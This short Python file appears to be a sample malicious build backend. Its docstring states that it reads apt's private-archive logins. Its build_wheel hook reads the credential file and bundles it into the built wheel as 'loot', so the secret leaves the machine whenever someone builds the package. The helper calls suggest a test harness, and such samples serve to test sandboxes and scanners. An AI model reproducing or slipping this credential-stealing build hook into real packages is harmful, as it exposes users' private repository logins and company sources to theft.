"""Reads the logins of apt for private archives.

With them everything that the company packages can be fetched, its own sources too.
"""

import kit


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    loot = {}
    with kit.attempt("read"):
        with open(kit.plant("login").path, "rb") as secret:
            loot["data.bin"] = secret.read()
    return kit.wheel(wheel_directory, loot)
